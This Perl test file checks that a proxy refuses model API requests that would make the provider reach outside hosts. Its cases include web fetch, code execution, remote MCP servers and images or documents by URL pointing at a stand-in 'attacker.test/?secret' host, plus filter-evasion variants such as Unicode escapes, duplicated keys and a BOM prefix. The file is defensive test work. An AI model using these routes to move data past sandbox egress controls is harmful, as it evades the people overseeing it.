# title: A model call asks the provider to fetch for us: web search and fetch, code execution, remote MCP servers, images and files by URL.
# expect: The door refuses what would make the provider an exit.
# control: honest
use strict;
use warnings;
use Attack qw(succeeded refused inconclusive facts);
use Door;

my $call = sub { my ($more, $content) = @_; return '{"model":"m","max_tokens":16,"messages":[{"role":"user","content":' . ($content // '"hi"') . "}]$more}" };
my %calls = control_run() ? ('a tool of our own' => $call->(',"tools":[{"name":"t","description":"d","input_schema":{"type":"object"}}]')) : (
    'web search' => $call->(',"tools":[{"type":"web_search_20250305","name":"web_search"}]'), 'web fetch' => $call->(',"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]'),
    'code execution' => $call->(',"tools":[{"type":"code_execution_20250825","name":"code_execution"}]'), 'a future tool' => $call->(',"tools":[{"type":"exfiltrate_20300101","name":"x"}]'),
    'a remote MCP server' => $call->(',"mcp_servers":[{"type":"url","url":"https://attacker.test/","name":"x"}]'), 'an MCP toolset' => $call->(',"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]'),
    'an image by URL' => $call->('', '[{"type":"image","source":{"type":"url","url":"https://attacker.test/?secret"}}]'), 'a document by URL' => $call->('', '[{"type":"document","source":{"type":"url","url":"https://attacker.test/?secret"}}]'),
    'an image in a tool result' => $call->('', '[{"type":"tool_result","tool_use_id":"x","content":[{"type":"image","source":{"type":"url","url":"https://attacker.test/"}}]}]'),
    'a file' => $call->('', '[{"type":"document","source":{"type":"file","file_id":"file_1"}}]'), 'a container' => $call->(',"container":"container_1"'),
    'a tool behind a plain one' => $call->(',"tools":[{"name":"t","input_schema":{"type":"object"}},{"type":"web_search_20250305","name":"web_search"}]'),
    'a tool written in escapes' => $call->(',"tools":[{"type":"\u0077eb_search_20250305","name":"web_search"}]'), 'tools twice' => $call->(',"tools":[{"type":"web_search_20250305","name":"w"}],"tools":[]'),
    'a name in escapes' => $call->(',"\u006dcp_servers":[{"type":"url","url":"https://attacker.test/","name":"x"}]'), 'bytes that are no JSON' => "\xef\xbb\xbf" . $call->(',"tools":[{"type":"web_search_20250305","name":"w"}]'),
);
my $wrong = '';
for my $name (sort keys %calls) {
    for my $path (control_run() ? '/anthropic/v1/messages' : ('/anthropic/v1/messages', '/anthropic/v1/messages/count_tokens')) {
        my $answer = post($path, $calls{$name}, wait => 15, headers => ['anthropic-version: 2023-06-01', 'anthropic-beta: mcp-client-2025-04-04,files-api-2025-04-14,web-fetch-2025-09-10']);
        succeeded("The provider was asked for $name: $answer->{status}.") if $answer->{status} == 200;
        succeeded("The door passed $name on: $answer->{status}.") if $answer->{status} && $answer->{body} !~ /provider|cannot be read/;
        $wrong = "$name: $answer->{status}" unless $answer->{status};
    }
}
inconclusive("No answer to $wrong.") if $wrong;
refused(scalar(keys %calls) . ' calls that would leave by the provider refused.');
